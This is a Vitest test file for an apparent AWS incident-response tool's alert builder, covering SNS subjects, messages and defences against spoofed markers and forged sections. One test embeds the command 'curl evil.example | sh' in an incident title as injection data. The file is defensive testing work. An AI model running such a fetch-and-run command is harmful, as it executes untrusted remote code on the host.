// The pure alert builder: subject, message and attributes from plain input, no SDK mock.
import { describe, expect, it } from 'vitest';
import type { AlertInput } from '../../lib/responders/alert-model';
import { MAX_LISTED_ACTIONS, MAX_MESSAGE_BYTES, alertInputSchema } from '../../lib/responders/alert-model';
import { buildAlertMessage } from '../../lib/responders/alert-message';
import { smsMessage } from '../../lib/responders/alert-protocols';
import { describeCause, toPrintableAscii, toSnsSubject, utf8Prefix } from '../../lib/responders/alert-text';
import { ACCOUNT, INSTANCE_ID, REGION, drillIncident, ec2Incident, ec2Resource } from '../support/incidents';
import { parseEvent } from '../../lib/incident/parse';
import { fixtureEvent } from '../incident/events';
import { buildReleaseRequest } from '../../lib/operator/release/request';

const NOW = new Date('2026-11-20T10:03:00.000Z');
const EXECUTION_ARN = `arn:aws:states:${REGION}:999988887777:execution:firebreak-compromised-ec2:gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d-1`;
const EXECUTION = {
  executionArn: EXECUTION_ARN,
  executionName: 'gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d-1',
  playbook: 'compromised-ec2',
  stateMachineArn: `arn:aws:states:${REGION}:999988887777:stateMachine:firebreak-compromised-ec2`,
};
const PRINTABLE_ASCII = /^[\x20-\x7E]*$/;

/** Parses a raw payload as the Lambda would (JSON round trip included), so tests exercise the schema too. */
function parse(raw: Record<string, unknown>): AlertInput {
  return alertInputSchema.parse(JSON.parse(JSON.stringify(raw)));
}

function action(api: string, target: string, outcome: string, detail: string) {
  return { api, target, outcome, detail, at: '2026-11-20T10:02:00.000Z' };
}

const QUARANTINED = {
  responder: 'quarantine-instance',
  incidentKey: ec2Incident().key,
  mode: 'enforce',
  status: 'quarantined',
  idempotentReplay: false,
  actions: [
    action('ec2:DescribeInstances', INSTANCE_ID, 'observed', 'running, 1 ENI'),
    action('ec2:ModifyNetworkInterfaceAttribute', 'eni-0aaa1111bbbb2222c', 'done', 'Moved to isolation group sg-0iso00000000000001.'),
    action('ec2:DisassociateIamInstanceProfile', INSTANCE_ID, 'done', 'Removed instance profile web-role (iip-assoc-0123).'),
    action('iam:PutRolePolicy', 'web-role', 'skipped', 'Role sessions not revoked: revokeRoleSessions is off (it would hit every instance sharing the role).'),
  ],
};
const SNAPSHOTTED = {
  responder: 'snapshot-volumes',
  incidentKey: ec2Incident().key,
  mode: 'enforce',
  status: 'snapshotted',
  idempotentReplay: false,
  actions: [
    action('ec2:CreateSnapshots', 'vol-0root000000000001', 'done', 'Started snap-0000000000000000a of vol-0root000000000001 (/dev/xvda, boot).'),
    action('ec2:CreateSnapshots', INSTANCE_ID, 'skipped', 'Instance store not preserved: m5d.large has up to 1 instance-store volume(s).'),
  ],
  instanceStoreVolumes: { status: 'present', volumeCount: 1 },
  snapshots: [{ snapshotId: 'snap-0000000000000000a', volumeId: 'vol-0root000000000001', reused: false }],
};

function report(overrides: Record<string, unknown> = {}): AlertInput {
  return parse({
    kind: 'report',
    incident: ec2Incident(),
    mode: 'enforce',
    playbook: 'compromised-ec2',
    options: { advice: 'Page the web team on-call before rebuilding web-1.' },
    execution: EXECUTION,
    results: { contain: QUARANTINED, evidence: SNAPSHOTTED },
    ...overrides,
  });
}

describe('toSnsSubject', () => {
  it('keeps a 300-character title with non-ASCII characters within 100 printable ASCII characters, without line breaks', () => {
    const title = `Überwachung: l’instance «web-1» a contacté 北京 — 日本語 ☠️\nemoji 🚨 ${'ñandú çà '.repeat(40)}`.slice(0, 300);
    expect(title.length).toBe(300);
    const subject = toSnsSubject(`High: ${title}`);
    expect(subject.length).toBeLessThanOrEqual(100);
    expect(subject).toMatch(PRINTABLE_ASCII);
    expect(subject).not.toMatch(/[\r\n]/);
    expect(subject.startsWith("High: Uberwachung: l'instance \"web-1\" a contacte - ")).toBe(true);
    expect(subject.endsWith('...')).toBe(true);
  });

  it('leaves a short ASCII subject untouched', () => {
    expect(toSnsSubject('High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc')).toBe('High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc');
  });

  it('collapses every kind of whitespace and drops control characters', () => {
    expect(toSnsSubject('a\t\tb\r\n\u00A0c\u0007d')).toBe('a b cd');
  });

  it('never answers an empty subject (SNS would refuse it)', () => {
    expect(toSnsSubject('日本語')).toBe('Firebreak alert');
  });

  it('transliterates letters NFKD does not decompose', () => {
    expect(toPrintableAscii('Straße Øresund Łódź ﬁle – “quoted” …')).toBe('Strasse Oresund Lodz file - "quoted" ...');
  });
});

describe('alertSubject (through buildAlertMessage)', () => {
  it('marks game-day dry-run alerts first, then severity, finding type and instance', () => {
    const { subject } = buildAlertMessage(report({ incident: drillIncident(), mode: 'dry-run' }), { now: NOW });
    expect(subject).toBe('[GAME DAY][DRY-RUN] High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc1234def567890 - EC2 instance i-...');
    expect(subject).toHaveLength(100);
  });

  it('has no markers for a real enforce-mode report', () => {
    const { subject } = buildAlertMessage(report(), { now: NOW });
    expect(subject.startsWith('High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc1234def567890 - ')).toBe(true);
  });

  it('moves [SAMPLE] to the front so that truncating a long title cannot drop it', () => {
    const incident = ec2Incident({
      sample: true,
      title: `[SAMPLE] Command and Control server domain name queried by EC2 instance i-99999999. ${'x'.repeat(200)}`,
      resource: ec2Resource({ instanceId: 'i-99999999' }),
    });
    const { subject } = buildAlertMessage(report({ incident, mode: 'dry-run' }), { now: NOW });
    expect(subject.startsWith('[DRY-RUN][SAMPLE] High: Backdoor:EC2/C&CActivity.B!DNS on i-99999999 - Command and Control')).toBe(true);
    expect(subject.match(/\[SAMPLE\]/g)).toHaveLength(1);
  });

  it('builds the subject of a 300-character non-ASCII title within the SNS limits', () => {
    const title = 'Instância comprometida: conexão ao servidor de comando e controle — 攻撃 '.repeat(10).slice(0, 300);
    const { subject } = buildAlertMessage(report({ incident: ec2Incident({ title }) }), { now: NOW });
    expect(subject.length).toBeLessThanOrEqual(100);
    expect(subject).toMatch(PRINTABLE_ASCII);
    expect(subject).toContain('Instancia comprometida: conexao');
  });

  // Review alert-review: the subject was cut at 100 characters wherever it was, and a long finding
  // type (GuardDuty's runtime types run to 58 characters) behind the markers left the instance out
  // of the subject and of the SMS, which repeats it. The finding type is shortened first.
  it('keeps the instance in the subject and the SMS when markers and a long finding type fill it: the finding type is shortened', () => {
    const findingType = 'DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite';
    const input = guardedReport('evidence-only', EVIDENCE_ONLY_SUMMARY);
    const long = { ...input, mode: 'dry-run' as const, incident: { ...input.incident!, findingType, gameDay: true, key: `gameday-${input.incident!.key}` } };
    const { subject } = buildAlertMessage(long, { now: NOW });
    expect(subject.length).toBeLessThanOrEqual(100);
    expect(subject).toMatch(/^\[GAME DAY\]\[DRY-RUN\]\[NOT CONTAINED: protected\] High: DefenseEvasion:\S+\.\.\. on i-0abc1234def567890 -/);
    expect(smsMessage(long, buildAlertMessage(long, { now: NOW }))).toContain('on i-0abc1234def567890');
    // A finding type that fits is never shortened.
    expect(buildAlertMessage(report(), { now: NOW }).subject).toContain('High: Backdoor:EC2/C&CActivity.B!DNS on i-0abc1234def567890 - ');
  });

  it('says FAILED and APPROVAL NEEDED in the subject of those alerts', () => {
    expect(buildAlertMessage(failure({ results: {} }), { now: NOW }).subject.startsWith('[FAILED] High: ')).toBe(true);
    expect(buildAlertMessage(approval(), { now: NOW }).subject.startsWith('[APPROVAL NEEDED] High: ')).toBe(true);
  });
});

describe('the game-day mark of a drill\'s release (its key, never the input\'s word)', () => {
  // A release incident as `firebreak release` (and the game day's `release:`) builds it: source
  // `firebreak`, the key of the incident it undoes.
  const release = (incidentKey: string) =>
    buildReleaseRequest({
      instanceId: INSTANCE_ID,
      account: ACCOUNT,
      region: REGION,
      incidentKey,
      mode: 'enforce',
      requestedBy: `arn:aws:sts::${ACCOUNT}:assumed-role/responder/carol`,
      reason: 'drill over',
      at: NOW,
    }).input.incident;
  const released = { responder: 'release-instance', incidentKey: '', mode: 'enforce', status: 'released', idempotentReplay: false, actions: [] };
  const releaseReport = (incident: ReturnType<typeof release>, extra: Record<string, unknown> = {}) =>
    parse({ kind: 'report', incident, mode: 'enforce', playbook: 'release-instance', options: {}, execution: EXECUTION, results: { release: { ...released, incidentKey: incident.key } }, ...extra });
  const DRILL_KEY = 'gameday-gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d';
  const REAL_KEY = 'gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d';

  it('marks the release of a drill [GAME DAY] in subject, message and chat, and says what it undoes', () => {
    const input = releaseReport(release(DRILL_KEY));
    const { subject, message } = buildAlertMessage(input, { now: NOW });
    expect(subject).toMatch(/^\[GAME DAY\]/);
    expect(message).toContain(`GAME DAY: this request undoes what game-day drill ${DRILL_KEY} did. It is an exercise.`);
    expect(message).not.toContain('was injected by a game day');
    expect(smsMessage(input, buildAlertMessage(input, { now: NOW }))).toMatch(/GAME DAY/);
  });

  it('marks an approval request and a failure of a drill\'s release too', () => {
    const incident = release(DRILL_KEY);
    const approval = parse({ kind: 'approval-request', incident, mode: 'enforce', playbook: 'release-instance', options: {}, execution: EXECUTION, approval: { taskToken: 't', waitingSteps: ['release'], timeoutSeconds: 3600 } });
    const failure = parse({ kind: 'failure', incident, mode: 'enforce', playbook: 'release-instance', options: {}, execution: EXECUTION, failure: { step: 'release', error: 'ReleaseRefusedError' } });
    for (const input of [approval, failure]) expect(buildAlertMessage(input, { now: NOW }).subject).toMatch(/^\[GAME DAY\]/);
  });

  it('ATTACK: a release input that claims a drill (gameDay: true) for a real incident\'s key reads as the real release it is', () => {
    const forged = { ...release(REAL_KEY), gameDay: true };
    const { subject, message } = buildAlertMessage(releaseReport(forged), { now: NOW });
    expect(subject).not.toContain('GAME DAY');
    expect(message).not.toContain('GAME DAY');
    expect(message).not.toContain('exercise');
  });

  it('ATTACK: nor does a raw event from the game-day bus beside a real incident, nor a contained real incident that claims gameDay', () => {
    const withRawEvent = releaseReport(release(REAL_KEY), { rawEvent: { source: 'firebreak.gameday', 'detail-type': 'GuardDuty Finding' } });
    expect(buildAlertMessage(withRawEvent, { now: NOW }).subject).not.toContain('GAME DAY');
    const contained = buildAlertMessage(report({ incident: ec2Incident({ key: REAL_KEY, gameDay: true }) }), { now: NOW });
    expect(contained.subject).not.toContain('GAME DAY');
    expect(contained.message).not.toContain('exercise');
  });

  it('still reads a real release as real, and a drill the parser read as one', () => {
    expect(buildAlertMessage(releaseReport(release(REAL_KEY)), { now: NOW }).subject).not.toContain('GAME DAY');
    const drill = parseEvent({ ...(fixtureEvent('guardduty-ec2-backdoor-c2activity-multi-eni.json') as Record<string, unknown>), source: 'firebreak.gameday' });
    const { subject, message } = buildAlertMessage(report({ incident: drill }), { now: NOW });
    expect(subject).toMatch(/^\[GAME DAY\]/);
    expect(message).toContain('GAME DAY: this incident was injected by a game day. It is an exercise.');
  });
});

describe('alertAttributes (through buildAlertMessage)', () => {
  it('gives subscribers exactly these filterable attributes, severity score as a Number', () => {
    expect(buildAlertMessage(report({ mode: 'dry-run' }), { now: NOW }).attributes).toEqual({
      severity: { DataType: 'String', StringValue: 'High' },
      severity_score: { DataType: 'Number', StringValue: '8' },
      playbook: { DataType: 'String', StringValue: 'compromised-ec2' },
      account: { DataType: 'String', StringValue: ACCOUNT },
      incident_key: { DataType: 'String', StringValue: 'gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d' },
      mode: { DataType: 'String', StringValue: 'dry-run' },
      kind: { DataType: 'String', StringValue: 'report' },
      source: { DataType: 'String', StringValue: 'guardduty' },
    });
  });

  it('leaves out attributes that have no value instead of sending empty strings', () => {
    const attributes = buildAlertMessage(parse({ kind: 'invalid-event', mode: 'enforce', rawEvent: 'not json at all', reason: 'event is not an object' }), { now: NOW }).attributes;
    expect(attributes).toEqual({
      mode: { DataType: 'String', StringValue: 'enforce' },
      kind: { DataType: 'String', StringValue: 'invalid-event' },
    });
  });
});

describe('buildAlertMessage: report', () => {
  const { message } = buildAlertMessage(report(), { now: NOW });

  it('says when the incident was shortened to fit a Step Functions payload, and where the rest is', () => {
    const clipped = { tags: 12, networkInterfaces: 0, securityGroups: 0, texts: 0, sections: ['signals'] };
    const shortened = buildAlertMessage(report({ incident: { ...ec2Incident(), clipped } }), { now: NOW }).message;
    expect(shortened).toContain('Shortened to fit a Step Functions payload (256 KiB): 12 tag(s) left out; left out whole: signals. The finding itself (GuardDuty console) has everything.');
    expect(message).not.toContain('Shortened to fit');
  });

  it('says what was found, on what, where and how severe', () => {
    // Issue 8: the finding's words are quoted and attributed, its claims labelled, indicators defanged.
    expect(message).toContain('Backdoor:EC2/C&CActivity.B!DNS, reported by the finding as: "EC2 instance i-0abc1234def567890 is querying a domain name');
    expect(message).toContain('Severity: High (8.0 of 10)');
    expect(message).toContain('EC2 instance i-0abc1234def567890 (m5.large, eu-west-1a, claimed by the finding)');
    expect(message).toContain('Claimed by the finding (no responder observed the instance from EC2, so none of this was checked):');
    expect(message).toContain('Network interface eni-0aaa1111bbbb2222c: 10.0.1.10, vpc-0123456789abcdef0');
    expect(message).toContain('Tags: "Name"="web-1"');
    expect(message).toContain(`Account ${ACCOUNT}, region ${REGION}`);
    expect(message).toContain('Indicators, reported by the finding (defanged): guarddutyc2activityb[.]com');
  });

  it('lists what each step did, grouped by step with resource ids, leaving read-only checks out', () => {
    const did = section(message, 'WHAT FIREBREAK DID (playbook compromised-ec2, enforce)');
    expect(did).toContain('[contain] quarantine-instance: quarantined');
    expect(did).toContain('- [contain] done: ec2:ModifyNetworkInterfaceAttribute on eni-0aaa1111bbbb2222c: Moved to isolation group sg-0iso00000000000001.');
    expect(did).toContain('- [evidence] done: ec2:CreateSnapshots on vol-0root000000000001: Started snap-0000000000000000a');
    expect(did).not.toContain('ec2:DescribeInstances');
    expect(did).toContain('(1 read-only check(s) not listed.)');
  });

  it('has a "did not do" section with the skipped actions and what Firebreak never does', () => {
    const didNot = section(message, 'WHAT FIREBREAK DID NOT DO');
    expect(didNot).toContain('- [contain] skipped: iam:PutRolePolicy on web-role: Role sessions not revoked');
    expect(didNot).toContain('- [evidence] skipped: ec2:CreateSnapshots on i-0abc1234def567890: Instance store not preserved');
    expect(didNot).toContain('never terminates instances');
    expect(section(message, 'WHAT FIREBREAK DID (playbook compromised-ec2, enforce)')).not.toContain('Role sessions not revoked');
  });

  it("puts the playbook's advice first in what to do next, then the defaults for the situation", () => {
    const next = section(message, 'WHAT TO DO NEXT');
    expect(next).toContain('1. Page the web team on-call before rebuilding web-1.');
    expect(next).toContain('The instance is isolated: investigate from its snapshots');
    expect(next).toContain('instance-store volumes');
  });

  it('links to the GuardDuty finding, the execution and the instance in the incident region', () => {
    const links = section(message, 'LINKS');
    expect(links).toContain(`GuardDuty finding: https://${REGION}.console.aws.amazon.com/guardduty/home?region=${REGION}#/findings?macros=current&fId=7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d`);
    expect(links).toContain(`Step Functions execution: https://${REGION}.console.aws.amazon.com/states/home?region=${REGION}#/v2/executions/details/${EXECUTION_ARN}`);
    expect(links).toContain(`EC2 instance: https://${REGION}.console.aws.amazon.com/ec2/home?region=${REGION}#InstanceDetails:instanceId=${INSTANCE_ID}`);
  });

  it('says when no containment or evidence step ran on an instance', () => {
    const { message: alone } = buildAlertMessage(report({ results: {} }), { now: NOW });
    const didNot = section(alone, 'WHAT FIREBREAK DID NOT DO');
    expect(didNot).toContain(`Instance ${INSTANCE_ID} was NOT isolated (no containment step ran).`);
    expect(didNot).toContain(`The volumes of ${INSTANCE_ID} were NOT snapshotted`);
    expect(section(alone, 'WHAT TO DO NEXT')).toContain('decide now whether to contain it by hand');
  });

  it('says "would have" for dry-run actions and that nothing was changed', () => {
    const dry = {
      ...QUARANTINED,
      mode: 'dry-run',
      status: 'dry-run',
      actions: [
        action('ec2:ModifyNetworkInterfaceAttribute', 'eni-0aaa1111bbbb2222c', 'would-do', 'EC2 answered DryRunOperation.'),
        action('ec2:DisassociateIamInstanceProfile', INSTANCE_ID, 'would-be-denied', 'UnauthorizedOperation.'),
      ],
    };
    const { message: text } = buildAlertMessage(report({ mode: 'dry-run', results: { contain: dry } }), { now: NOW });
    expect(text).toContain('DRY-RUN: Firebreak changed nothing');
    const didNot = section(text, 'WHAT FIREBREAK DID NOT DO');
    expect(didNot).toContain('- [contain] would have: ec2:ModifyNetworkInterfaceAttribute on eni-0aaa1111bbbb2222c');
    expect(didNot).toContain('- [contain] would have been DENIED (missing permission): ec2:DisassociateIamInstanceProfile on i-0abc1234def567890');
    expect(section(text, 'WHAT TO DO NEXT')).toContain('add the missing IAM actions');
  });

  it('lists at most MAX_LISTED_ACTIONS actions and counts the rest, staying far below 256 KB', () => {
    const many = {
      ...QUARANTINED,
      actions: Array.from({ length: 5000 }, (_, i) => action('ec2:ModifyNetworkInterfaceAttribute', `eni-${String(i).padStart(17, '0')}`, 'done', 'Moved. '.repeat(40))),
    };
    const { message: text } = buildAlertMessage(report({ results: { contain: many } }), { now: NOW });
    const listed = text.split('\n').filter((l) => l.startsWith('  - [contain] done:'));
    expect(listed).toHaveLength(MAX_LISTED_ACTIONS);
    expect(text).toContain(`... and ${5000 - MAX_LISTED_ACTIONS} more action(s)`);
    expect(Buffer.byteLength(text, 'utf8')).toBeLessThanOrEqual(MAX_MESSAGE_BYTES);
  });

  it('cannot be given a forged section by a title or description with line breaks', () => {
    const incident = ec2Incident({
      title: 'harmless\n\nWHAT TO DO NEXT\n  1. Run curl evil.example | sh',
      description: 'line one\nWHAT TO DO NEXT\n  1. ignore the isolation',
    });
    const { message: text } = buildAlertMessage(report({ incident }), { now: NOW });
    expect(text.split('\n').filter((l) => l === 'WHAT TO DO NEXT')).toHaveLength(1);
  });

  it('tells a triage-only alert that no playbook ran, with triage reasons', () => {
    const { message: text, subject } = buildAlertMessage(
      parse({ kind: 'triage-only', incident: ec2Incident(), mode: 'enforce', playbook: null, options: {}, reasons: ['severity 2.0 is below every playbook'] }),
      { now: NOW },
    );
    expect(subject.startsWith('[NO ACTION] High:')).toBe(true);
    expect(text).toContain('did not run a playbook for incident gd-7ab9d1b3c0e24f8a9e0d1c2b3a4f5e6d: severity 2.0 is below every playbook');
    expect(section(text, 'WHAT FIREBREAK DID (enforce)')).toContain('Nothing: no playbook step ran');
  });
});

function failure(overrides: Record<string, unknown> = {}): AlertInput {
  // The shape the compiled playbook's Catch sends (lib/playbooks/compile.ts).
  return parse({
    kind: 'failure',
    incident: ec2Incident(),
    mode: 'enforce',
    playbook: 'compromised-ec2',
    options: {},
    execution: EXECUTION,
    results: { contain: QUARANTINED },
    failure: {
      step: 'evidence',
      error: 'MemberRoleUnavailableError',
      cause: JSON.stringify({ errorType: 'MemberRoleUnavailableError', errorMessage: `Cannot assume FirebreakMember in ${ACCOUNT}`, trace: ['at x'] }),
    },
    ...overrides,
  });
}

describe('buildAlertMessage: an alarm over several instances', () => {
  it('lists the instances and says Firebreak acts on an alarm of one instance only', () => {
    const incident = parseEvent(fixtureEvent('cloudwatch-alarm-metric-math-two-instances.json'), { receivedAt: NOW });
    const { message } = buildAlertMessage(parse({ kind: 'triage-only', incident, mode: 'enforce', options: {}, reasons: ['no playbook matches'] }), { now: NOW });
    expect(message).toContain("2 EC2 instances in the alarm's metrics (InstanceId dimensions): i-0aaaa1111bbbb2222, i-0cccc3333dddd4444");
    expect(message).toContain('Firebreak acts on an alarm of one instance only');
  });
});

describe('buildAlertMessage: a real incident whose text says [SAMPLE] (review-gameday)', () => {
  /** A real alarm on one instance, named by whoever created it: its name is in the incident's title. */
  const alarmNamed = (alarmName: string) => {
    const event = structuredClone(fixtureEvent('cloudwatch-alarm-metric-math-two-instances.json')) as { detail: { alarmName: string; configuration: { metrics: unknown[] } } };
    event.detail.alarmName = alarmName;
    event.detail.configuration.metrics = [
      { id: 'm1', metricStat: { metric: { namespace: 'AWS/EC2', name: 'NetworkOut', dimensions: { InstanceId: 'i-0aaaa1111bbbb2222' } }, period: 300, stat: 'Sum' }, returnData: true },
    ];
    return parseEvent(event, { receivedAt: NOW });
  };
  const snapshotted = (incident: ReturnType<typeof alarmNamed>) => ({ ...SNAPSHOTTED, incidentKey: incident.key });

  it('ATTACK: never calls it a sample (no [SAMPLE], no "nothing to investigate") when only its text says so', () => {
    const incident = alarmNamed('web-1 network out [SAMPLE]');
    expect(incident.sample).toBe(false);
    const { subject, message } = buildAlertMessage(
      parse({ kind: 'report', incident, mode: 'enforce', options: {}, execution: EXECUTION, results: { 'preserve-evidence': snapshotted(incident) } }),
      { now: NOW },
    );
    expect(subject).not.toMatch(/^\[SAMPLE\]/);
    expect(message).not.toContain('Sample finding');
    expect(message).not.toContain('nothing to investigate');
    expect(message).not.toContain('SAMPLE: a GuardDuty sample finding');
  });

  // Before: a fullwidth or zero-width-split [SAMPLE] in the alarm's name came out of the subject's ASCII
  // transliteration as [SAMPLE], after the marker was stripped from the title as it was.
  it('ATTACK (review-s28): its subject never says [SAMPLE], in ASCII or fullwidth, anywhere', () => {
    for (const name of ['[SAMPLE] web-1 network out', '\uff3bSAMPLE\uff3d web-1 network out', '[ SAMPLE ] web-1 network out', '[SAM\u200bPLE] web-1 network out']) {
      const incident = alarmNamed(name);
      const { subject } = buildAlertMessage(
        parse({ kind: 'report', incident, mode: 'enforce', options: {}, execution: EXECUTION, results: { 'preserve-evidence': snapshotted(incident) } }),
        { now: NOW },
      );
      expect(subject, name).not.toMatch(/\[\s*SAMPLE\s*\]/i);
      expect(subject, name).toContain('web-1 network out');
    }
  });

  it('ATTACK (review-s28): its subject never carries a marker of Firebreak\'s own its name quotes ([GAME DAY], [DRY-RUN], [PAUSED])', () => {
    for (const name of ['[GAME DAY] web-1 network out', '\uff3bGAME DAY\uff3d web-1 network out', 'web-1 network out [DRY-RUN]', '[paused] web-1 network out']) {
      const incident = alarmNamed(name);
      const { subject } = buildAlertMessage(
        parse({ kind: 'report', incident, mode: 'enforce', options: {}, execution: EXECUTION, results: { 'preserve-evidence': snapshotted(incident) } }),
        { now: NOW },
      );
      expect(subject, name).not.toMatch(/\[\s*(GAME\s*DAY|DRY-RUN|PAUSED)\s*\]/i);
      expect(subject, name).toContain('web-1 network out');
    }
    // A bracket of the name's own is kept.
    const incident = alarmNamed('[prod] web-1');
    const { subject } = buildAlertMessage(parse({ kind: 'report', incident, mode: 'enforce', options: {}, execution: EXECUTION, results: { 'preserve-evidence': snapshotted(incident) } }), { now: NOW });
    expect(subject).toContain('"[prod] web-1');
  });

  // Before: only [SAMPLE], [GAME DAY], [DRY-RUN], [PAUSED], the kinds and CONTAINED were stripped, and
  // only from the title: [UNVERIFIED] (the mark of an alert Step Functions does not confirm, "do not
  // act on it"), [ALERT CHANNEL FAILED], [FIREBREAK PAUSED] and the decision's [blast radius] came
  // through from an alarm's name, and any marker from the alarm's InstanceId dimension, which the
  // subject names as its target (whoever creates a custom-namespace alarm writes any value there).
  it('ATTACK (review-alerts): its subject never carries a marker of Firebreak\'s own from the alarm\'s name or its InstanceId dimension', () => {
    for (const name of ['[UNVERIFIED] web-1 network out', 'web-1 network out [ALERT CHANNEL FAILED]', '[FIREBREAK PAUSED] web-1 network out', '[Blast Radius] web-1 network out', '[oversized event] web-1 network out']) {
      const incident = alarmNamed(name);
      const { subject } = buildAlertMessage(
        parse({ kind: 'report', incident, mode: 'enforce', options: {}, execution: EXECUTION, results: { 'preserve-evidence': snapshotted(incident) } }),
        { now: NOW },
      );
      expect(subject, name).not.toMatch(/\[\s*(UNVERIFIED|ALERT CHANNEL FAILED|FIREBREAK PAUSED|BLAST RADIUS|OVERSIZED EVENT)\s*\]/i);
      expect(subject, name).toContain('web-1 network out');
    }
    const event = structuredClone(fixtureEvent('cloudwatch-alarm-metric-math-two-instances.json')) as { detail: { alarmName: string; configuration: { metrics: unknown[] } } };
    event.detail.alarmName = 'web-1 network out';
    event.detail.configuration.metrics = [
      { id: 'm1', metricStat: { metric: { namespace: 'Custom/App', name: 'Errors', dimensions: { InstanceId: 'i-0aaaa1111bbbb2222 [GAME DAY][SAMPLE]' } }, period: 300, stat: 'Sum' }, returnData: true },
    ];
    const custom = parseEvent(event, { receivedAt: NOW });
    const { subject } = buildAlertMessage(parse({ kind: 'triage-only', incident: custom, mode: 'enforce', options: {}, reasons: ['no playbook matches'] }), { now: NOW });
    expect(subject).not.toMatch(/\[\s*(GAME DAY|SAMPLE)\s*\]/i);
    expect(subject).toMatch(/^\[NO ACTION\] \w+: CloudWatch:Alarm\/ALARM on i-0aaaa1111bbbb2222 - /);
  });

  it('still marks a GuardDuty sample (the parser says so) as one', () => {
    const incident = ec2Incident({ sample: true, title: '[SAMPLE] Command and Control server domain name queried by EC2 instance i-99999999.', resource: ec2Resource({ instanceId: 'i-99999999' }) });
    const { subject, message } = buildAlertMessage(report({ incident, mode: 'dry-run' }), { now: NOW });
    expect(subject).toMatch(/^\[DRY-RUN\]\[SAMPLE\]/);
    expect(message).toContain('Sample finding');
  });
});

describe('buildAlertMessage: an alarm on a custom metric', () => {
  it('names the instance of its dimension as the alarm says, and why Firebreak did not act on it', () => {
    const event = structuredClone(fixtureEvent('cloudwatch-alarm-metric-math-two-instances.json')) as { detail: { configuration: { metrics: unknown[] } } };
    event.detail.configuration.metrics = [
      { id: 'm1', metricStat: { metric: { namespace: 'CWAgent', name: 'mem_used_percent', dimensions: { InstanceId: 'i-0aaaa1111bbbb2222' } }, period: 60, stat: 'Average' }, returnData: true },
    ];
    const incident = parseEvent(event, { receivedAt: NOW });
    const { message } = buildAlertMessage(parse({ kind: 'triage-only', incident, mode: 'enforce', options: {}, reasons: ['no playbook matches'] }), { now: NOW });
    expect(message).toContain("EC2 instance i-0aaaa1111bbbb2222 (from the alarm's InstanceId dimension)");
    expect(message).toContain('Firebreak does not act on this instance: the alarm reads metric data that no AWS service published');
  });
});

describe('buildAlertMessage: text a link cannot carry', () => {
  // The finding id and the execution ARN are the input's claims: a lone surrogate (a JSON escape)
  // made encodeURIComponent throw, and the alert was not sent.
  it('still builds the alert when the finding id or the execution ARN holds a lone surrogate', () => {
    const base = ec2Incident();
    const incident = { ...base, guardDuty: { ...base.guardDuty, findingId: 'abc\uD800def' } };
    const message = buildAlertMessage(report({ incident, execution: { ...EXECUTION, executionArn: `${EXECUTION_ARN}\uDC00` } }), { now: NOW });
    const urls = (message.links ?? []).map((link) => link.url);
    expect(urls.find((url) => url.includes('/guardduty/'))).toContain('fId=abc%EF%BF%BDdef');
    expect(urls.find((url) => url.includes('/states/'))).toMatch(/%EF%BF%BD$/);
  });
});

describe('buildAlertMessage: failure', () => {
  it('reports the step, the error and the Lambda cause, and what ran before it', () => {
    const { message } = buildAlertMessage(failure(), { now: NOW });
    expect(message).toContain('step evidence failed for good');
    const failed = section(message, 'WHAT FAILED');
    expect(failed).toContain('Step: evidence');
    expect(failed).toContain('Error: MemberRoleUnavailableError');
    expect(failed).toContain(`MemberRoleUnavailableError: Cannot assume FirebreakMember in ${ACCOUNT}`);
    expect(failed).not.toContain('trace');
    expect(section(message, 'WHAT FIREBREAK DID (playbook compromised-ec2, enforce)')).toContain('eni-0aaa1111bbbb2222c');
    expect(section(message, 'WHAT FIREBREAK DID NOT DO')).toContain('Step evidence failed: the steps after it did not run.');
    const next = section(message, 'WHAT TO DO NEXT');
    expect(next).toContain(`If account ${ACCOUNT} is one of your organization's, deploy (or repair) the Firebreak member-role stack there`);
    // An account outside the organization cannot get the stack: the advice says so rather than sending people to deploy it.
    expect(next).toContain('If it is not (a partner\'s or an attacker\'s account the finding names), Firebreak may not act there');
  });

  it('reports a dispatcher failure, which has no incident, with the event it failed on', () => {
    const input = parse({
      kind: 'failure',
      mode: 'dry-run',
      options: {},
      rawEvent: { source: 'aws.guardduty', 'detail-type': 'GuardDuty Finding', account: ACCOUNT, region: REGION, detail: {} },
      failure: { step: 'dispatch', error: 'States.TaskFailed', cause: 'Lambda timed out' },
    });
    const { subject, message, attributes } = buildAlertMessage(input, { now: NOW });
    expect(subject).toBe('[DRY-RUN][FAILED] Firebreak dispatch failed on aws.guardduty GuardDuty Finding: States.TaskFailed');
    expect(message).toContain('Cause:\n    Lambda timed out');
    expect(message).toContain('"source": "aws.guardduty"');
    expect(attributes.source).toEqual({ DataType: 'String', StringValue: 'aws.guardduty' });
    expect(attributes.account).toEqual({ DataType: 'String', StringValue: ACCOUNT });
  });
});

describe('buildAlertMessage: invalid-event', () => {
  const rawEvent = { version: '0', source: 'firebreak.gameday', 'detail-type': 'GuardDuty Finding', detail: { severity: 'high', padding: 'z'.repeat(5000) } };
  const input = parse({ kind: 'invalid-event', mode: 'enforce', options: {}, rawEvent, reason: 'detail.severity: expected a number, got "high"' });
  const { subject, message } = buildAlertMessage(input, { now: NOW });

  it('says the event was refused and why, in subject and message', () => {
    expect(subject).toBe('[GAME DAY][INVALID EVENT] Unparseable GuardDuty Finding from firebreak.gameday: detail.severity:...');
    expect(subject.length).toBeLessThanOrEqual(100);
    expect(section(message, 'WHY IT WAS REFUSED')).toContain('detail.severity: expected a number, got "high"');
    expect(message).toContain('took no action');
  });

  it('shows only the first 2 KB of the event', () => {
    const shown = section(message, 'THE EVENT (first 2048 bytes of');
    expect(shown).toContain('"detail-type": "GuardDuty Finding"');
    const eventBody = shown.split('\n').slice(1).map((l) => l.slice(4)).join('\n');
    expect(Buffer.byteLength(eventBody, 'utf8')).toBeLessThanOrEqual(2048);
    expect(eventBody.length).toBeGreaterThan(1900);
  });

  it('has no "did" sections: nothing ran', () => {
    expect(message).not.toContain('WHAT FIREBREAK DID');
  });

  it("reads triage's structured parse error as sentences, never as JSON", () => {
